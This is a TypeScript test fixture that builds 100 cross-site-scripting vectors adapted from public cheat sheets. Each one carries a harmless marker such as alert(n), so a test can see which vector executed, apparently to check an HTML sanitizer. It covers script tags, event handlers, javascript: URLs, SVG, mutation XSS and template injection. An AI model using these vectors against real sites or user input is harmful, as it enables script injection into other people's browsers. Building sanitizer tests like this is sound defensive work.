/**
 * 100 stored-XSS vectors after the well-known lists (OWASP XSS Filter Evasion Cheat Sheet,
 * PortSwigger's XSS cheat sheet, html5sec.org, PayloadsAllTheThings): script tags, event
 * handlers, javascript:/data: URLs, SVG and MathML, mutation XSS, attribute breaking,
 * template injection and CSS. `$X` is the payload: `window.__xss=<n>` or `alert(<n>)`, so a
 * test sees which vector ran by the global it set or the dialog it opened.
 */
const templates: string[] = [
  // script elements
  '<script>$X</script>',
  '<SCRIPT>$X</SCRIPT>',
  '<script type="text/javascript">$X</script>',
  '<script>/*</script>*/$X</script>',
  '<scr<script>ipt>$X</scr</script>ipt>',
  '"><script>$X</script>',
  "'><script>$X</script>",
  '</title><script>$X</script>',
  '</textarea><script>$X</script>',
  '</style><script>$X</script>',
  '</script><script>$X</script>',
  '<script src="data:text/javascript,$X"></script>',
  '<script>eval(atob("d2luZG93Ll9feHNzPTE="));$X</script>',
  '<ScRiPt >$X</sCrIpT >',
  '<script\x20type="module">$X</script>',
  // event handlers
  '<img src=x onerror=$X>',
  '<img src="x" onerror="$X">',
  '<IMG SRC=x OnErRoR=$X>',
  '<img src=x:x onerror=$X//',
  '<img/src/onerror=$X>',
  '<body onload=$X>',
  '<svg onload=$X>',
  '<svg/onload=$X>',
  '<input autofocus onfocus=$X>',
  '<select autofocus onfocus=$X></select>',
  '<textarea autofocus onfocus=$X></textarea>',
  '<details open ontoggle=$X>',
  '<video><source onerror=$X></video>',
  '<audio src=x onerror=$X>',
  '<iframe onload=$X></iframe>',
  '<object data=x onerror=$X></object>',
  '<marquee onstart=$X>x</marquee>',
  '<div onmouseover=$X style="position:fixed;inset:0">x</div>',
  '<a onfocus=$X autofocus href=#>x</a>',
  '<form><button formaction=javascript:$X>x</button></form>',
  '<isindex type=image src=1 onerror=$X>',
  '<embed src=x onerror=$X>',
  '<link rel=stylesheet href=x onerror=$X>',
  '<style onload=$X></style>',
  '<table background=x onerror=$X>',
  // javascript: and data: URLs
  '<a href="javascript:$X">click</a>',
  '<a href="JaVaScRiPt:$X">click</a>',
  '<a href="&#106;avascript:$X">click</a>',
  '<a href="java\tscript:$X">click</a>',
  '<a href=" javascript:$X">click</a>',
  '<a href="javascript&colon;$X">click</a>',
  '<iframe src="javascript:$X"></iframe>',
  '<iframe src="data:text/html,<script>$X</script>"></iframe>',
  '<iframe srcdoc="<script>parent.$X</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="javascript:$X">',
  '<form action="javascript:$X"><input type=submit></form>',
  '<img src="javascript:$X">',
  '<meta http-equiv="refresh" content="0;url=javascript:$X">',
  '<base href="javascript:$X//">',
  '<a href="data:text/html,<script>$X</script>">x</a>',
  '<math href="javascript:$X">x</math>',
  '<svg><a xlink:href="javascript:$X"><text x=20 y=20>x</text></a></svg>',
  // SVG and MathML
  '<svg><script>$X</script></svg>',
  '<svg><script href="data:,$X"/></svg>',
  '<svg><animate onbegin=$X attributeName=x dur=1s>',
  '<svg><set onbegin=$X attributeName=x to=1>',
  '<svg><foreignObject><img src=x onerror=$X></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=$X>#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=$X>',
  '<math><maction actiontype=statusline xlink:href=javascript:$X>x</maction></math>',
  '<svg><desc><![CDATA[</desc><script>$X</script>]]></svg>',
  '<svg><style><img src=x onerror=$X></style></svg>',
  // mutation XSS
  '<noscript><p title="</noscript><img src=x onerror=$X>">',
  '<svg></p><style><a id="</style><img src=1 onerror=$X>">',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=$X>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=$X>',
  '<template><script>$X</script></template><div id=t></div>',
  '<xmp><img src=x onerror=$X></xmp>',
  '<title><img src=x onerror=$X></title>',
  '<noembed><img src=x onerror=$X></noembed>',
  '<!--<img src="--><img src=x onerror=$X//">',
  '<iframe><img src=x onerror=$X></iframe>',
  '<textarea><img src=x onerror=$X></textarea>',
  // attribute breaking
  '" onmouseover="$X" x="',
  "' onfocus='$X' autofocus='",
  '" autofocus onfocus="$X',
  '"><img src=x onerror=$X>',
  "'><img src=x onerror=$X>",
  '`><img src=x onerror=$X>',
  '" style="x:expression($X)',
  '"/><svg onload=$X>',
  'x" onerror="$X" src="y',
  '</a><a href="javascript:$X">x</a>',
  // template injection
  "{{constructor.constructor('$X')()}}",
  "{{$on.constructor('$X')()}}",
  '${$X}',
  '<%= $X %>',
  '#{$X}',
  "[[constructor.constructor('$X')()]]",
  // CSS
  '<div style="background:url(javascript:$X)">x</div>',
  '<div style="width:expression($X)">x</div>',
  '<style>@import "javascript:$X";</style>',
  '<style>body{background:url("javascript:$X")}</style>',
  '<svg><animate xlink:href=#a attributeName=href values=javascript:$X /><a id=a><text y=20>x</text></a></svg>',
];

export const XSS_VECTOR_COUNT = templates.length;

/** Vector `i` (0-based); it sets `window.__xss = i + 1` or calls `alert(i + 1)` if it runs. */
function xssVector(i: number): string {
  const n = i + 1;
  const payload = i % 2 === 0 ? `window.__xss=${n}` : `alert(${n})`;
  return templates[i]!.replaceAll('$X', payload);
}

export const xssVectors = (): string[] => templates.map((_t, i) => xssVector(i));
